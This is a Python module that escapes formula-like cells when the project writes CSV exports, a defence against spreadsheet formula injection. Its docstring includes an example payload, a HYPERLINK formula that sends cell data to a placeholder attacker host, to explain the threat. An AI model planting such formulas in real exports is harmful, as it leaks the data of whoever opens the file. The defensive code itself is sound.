"""CSV files a person may open in a spreadsheet, written without formula injection (OWASP "CSV Injection").

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by Excel, LibreOffice
and Google Sheets as a formula: ``=HYPERLINK("https://evil.example/?"&A1, "click")`` typed into the public
request form would run on a caseworker's machine when an export is opened. Such a cell is written with a
leading apostrophe, which spreadsheets show as text and do not evaluate. Plain numbers (``-3``, ``+1.5``,
``-inf``) and a lone ``-`` (a missing allele in a genotype file) stay as they are: a spreadsheet reads
them as numbers or text, and the files stay machine-readable.

Every CSV the project writes for a person or another program goes through :func:`writer` or
:class:`DictWriter` (a test greps ``src`` for ``csv.writer``); the only exceptions are in-memory round trips
into our own parsers, which never reach a file.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?((\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?|inf|infinity|nan)", re.IGNORECASE)
#: Lone signs that no spreadsheet evaluates and that data files use as values ("-": a missing allele).
_INERT = frozenset({"-", "+", "--"})


def safe_cell(value: Any) -> Any:
    """``value`` as a cell no spreadsheet evaluates: text starting like a formula gets a leading ``'``."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_START)
        and value not in _INERT
        and not _NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


class _SafeWriter:
    """``csv.writer`` with every cell passed through :func:`safe_cell`."""

    def __init__(self, stream: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream: Any, **kwargs: Any) -> _SafeWriter:
    """Like ``csv.writer``, escaping cells that would be formulas."""
    return _SafeWriter(stream, **kwargs)


class DictWriter(csv.DictWriter):
    """Like ``csv.DictWriter``, escaping cells that would be formulas (the header is ours, not escaped)."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({k: safe_cell(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)
